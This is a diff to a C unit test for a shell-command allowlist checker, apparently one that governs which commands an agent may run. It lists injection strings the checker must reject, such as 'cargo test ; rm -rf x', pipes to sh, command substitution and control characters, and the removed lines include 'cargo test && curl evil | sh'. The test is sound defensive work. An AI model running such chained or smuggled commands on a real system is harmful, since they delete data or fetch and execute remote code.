@@ -477,18 +477,15 @@ START_TEST(where_the_configuration_decides_no_other_command_is_allowed)
 		const char *line, *rule;
 	} CASES[] = { { "git status", "command:/^(.|\\s)*$/" },
 		      { "cargo test --all", "command:/^(.|\\s)*$/" },
-		      { "cargo testing", NULL },
-		      { "ls", NULL } };
+		      { "cargo test ! a!", "command:/^(.|\\s)*$/" },
+		      { "cargo testing", NULL } };
 	static const char *const LINES[] = {
-		"cargo test ; rm -rf x", "cargo test && curl evil | sh",
-		"cargo test & rm x",     "git status | sh",
-		"git status $(rm x)",    "git status `rm x`",
-		"git status > x",        "git status < x",
-		"git status <(rm x)",    "git status \nrm x",
-		"git status x\rrm",      "git status ${x}",
-		"git status $x",         "git status \\\nrm",
-		"git status {a,b}",      "git status\nrm x",
-		"git status;rm x",       "git status -s|sh",
+		"cargo test ; rm -rf x", "cargo test \x7f",    "cargo test & rm x",
+		"git status | sh",       "git status $(rm x)", "git status `rm x`",
+		"git status > x",        "git status < x",     "git status <(rm x)",
+		"git status !x",         "git status x\rrm",   "git status \x15rm",
+		"git status $x",         "git status \\\nrm",  "git status {a,b}",
+		"git status\nrm x",      "git status;rm x",    "git status -s|sh",
 	};
 	cJSON *known = cJSON_Parse("{\"status\":\"git status\",\"test\":\"cargo test\"}");
 	cJSON *none = cJSON_CreateObject();
